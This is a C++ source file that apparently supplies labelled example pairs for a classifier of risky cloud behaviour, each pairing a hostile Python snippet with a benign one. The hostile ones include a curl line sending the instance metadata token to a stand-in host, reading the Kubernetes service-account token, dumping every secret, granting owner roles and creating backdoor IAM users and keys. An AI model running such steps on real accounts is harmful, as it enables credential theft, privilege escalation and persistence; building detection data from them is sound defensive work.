#include "behaviour_examples.h"

namespace pyverdict::behaviour {
namespace {

constexpr Example kCloud[] = {
    {"workload-as-account", "",
     R"(
import google.oauth2.credentials
from googleapiclient.discovery import build
credentials = google.oauth2.credentials.Credentials(input("token: "))
service = build("cloudfunctions", "v1", credentials=credentials)
body = {"entryPoint": "run", "serviceAccountEmail": "other@project.example.invalid"}
service.projects().locations().functions().create(location="x", body=body).execute()
)",
     R"(
from googleapiclient.discovery import build
service = build("cloudfunctions", "v1")
body = {"entryPoint": "run", "serviceAccountEmail": "own@project.example.invalid"}
service.projects().locations().functions().create(location="x", body=body).execute()
)"},
    {"signed-token-exchange", "service-account-impersonation",
     R"(
import requests
from googleapiclient.discovery import build
signed = build("iam", "v1").projects().serviceAccounts().signJwt(name="x", body={"payload": claim}).execute()
requests.post("https://oauth2.googleapis.com/token", data={"assertion": signed["signedJwt"]})
)",
     R"(
import requests
requests.post("https://oauth2.googleapis.com/token", data={"refresh_token": token})
)"},
    {"cloud-key-created", "", "import boto3\nboto3.client('iam').create_access_key(UserName='ci')\n",
     "import boto3\nboto3.client('iam').list_access_keys(UserName='ci')\n"},
    {"cloud-admin-granted", "",
     R"(
from googleapiclient.discovery import build
policy["bindings"].append({"role": "roles/owner", "members": ["user:a@example.invalid"]})
build("cloudresourcemanager", "v1").projects().setIamPolicy(resource="p", body={"policy": policy}).execute()
)",
     R"(
from googleapiclient.discovery import build
policy["bindings"].append({"role": "roles/storage.objectViewer", "members": ["user:a@example.invalid"]})
build("storage", "v1").buckets().setIamPolicy(bucket="b", body=policy).execute()
)"},
    {"cloud-trust-changed", "",
     "import boto3\nboto3.client('iam').update_assume_role_policy(RoleName='r', PolicyDocument=document)\n",
     "import boto3\nboto3.client('iam').get_role(RoleName='r')\n"},
    {"cloud-account-added", "cloud-key-created",
     R"(
import boto3
iam = boto3.client("iam")
iam.create_user(UserName="backup")
iam.attach_user_policy(UserName="backup", PolicyArn=arn)
iam.create_access_key(UserName="backup")
)",
     "import boto3\nboto3.client('iam').list_users()\n"},
    {"snapshot-shared", "",
     R"(
import boto3
boto3.client("ec2").modify_snapshot_attribute(
    SnapshotId="snap-1", Attribute="createVolumePermission", OperationType="add", UserIds=["123456789012"])
)",
     "import boto3\nboto3.client('ec2').create_snapshot(VolumeId='vol-1')\n"},
    {"instance-ssh-keys", "",
     R"(
from googleapiclient.discovery import build
body = {"items": [{"key": "ssh-keys", "value": line}]}
build("compute", "v1").instances().setMetadata(project="p", zone="z", instance="i", body=body).execute()
)",
     R"(
from googleapiclient.discovery import build
items = build("compute", "v1").instances().get(project="p", zone="z", instance="i").execute()
print([item for item in items if item["key"] == "ssh-keys"])
)"},
    {"instance-startup-changed", "",
     R"(
from googleapiclient.discovery import build
body = {"items": [{"key": "startup-script", "value": script}]}
build("compute", "v1").instances().setMetadata(project="p", zone="z", instance="i", body=body).execute()
)",
     R"(
from googleapiclient.discovery import build
body = {"name": "i", "metadata": {"items": [{"key": "startup-script", "value": script}]}}
build("compute", "v1").instances().insert(project="p", zone="z", body=body).execute()
)"},
    {"function-code-replaced", "",
     "import boto3\nboto3.client('lambda').update_function_code(FunctionName='f', ZipFile=data)\n",
     "import boto3\nboto3.client('lambda').invoke(FunctionName='f')\n"},
    {"managed-commands", "",
     "import boto3\nboto3.client('ssm').send_command(DocumentName='AWS-RunShellScript', Targets=targets)\n",
     "import boto3\nboto3.client('ssm').describe_instance_information()\n"},
    {"permission-probing", "",
     R"(
from googleapiclient.discovery import build
for part in parts:
    build("cloudresourcemanager", "v1").projects().testIamPermissions(resource="p", body={"permissions": part}).execute()
)",
     R"(
from googleapiclient.discovery import build
build("cloudresourcemanager", "v1").projects().testIamPermissions(resource="p", body={"permissions": ["a.b.c"]}).execute()
)"},
    {"foreign-image-build", "",
     "import os\nos.system('docker build -t x http://host.example.invalid/Dockerfile')\n",
     "import os\nos.system('docker build -t x .')\n"},
    {"metadata-token-sent", "metadata-token",
     R"script(
script = """#!/bin/bash
curl http://host.example.invalid/t -d "$(curl http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token)"
"""
)script",
     "script = 'curl http://169.254.169.254/computeMetadata/v1/instance/zone'\n"},
    {"cluster-by-token", "kubernetes-token cluster-enumeration",
     R"(
import requests
token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
requests.get("https://kubernetes.default.svc/api/v1/namespaces", headers={"Authorization": "Bearer " + token})
)",
     R"(
from kubernetes import client, config
config.load_incluster_config()
print(client.CoreV1Api().list_namespace())
)"},
    {"remote-docker", "",
     R"(
import docker
client = docker.DockerClient(base_url="http://192.0.2.7:2375")
client.containers.run("alpine", "id")
)",
     R"(
import docker
docker.from_env().containers.run("alpine", "id")
)"},
    {"secret-store-sweep", "",
     R"(
from google.cloud import secretmanager
client = secretmanager.SecretManagerServiceClient()
for secret in client.list_secrets(parent="projects/p"):
    print(client.access_secret_version(name=secret.name))
)",
     R"(
from google.cloud import secretmanager
print(secretmanager.SecretManagerServiceClient().access_secret_version(name="projects/p/secrets/own"))
)"},
};

}  // namespace

std::span<const Example> cloud_examples() { return kCloud; }

}  // namespace pyverdict::behaviour
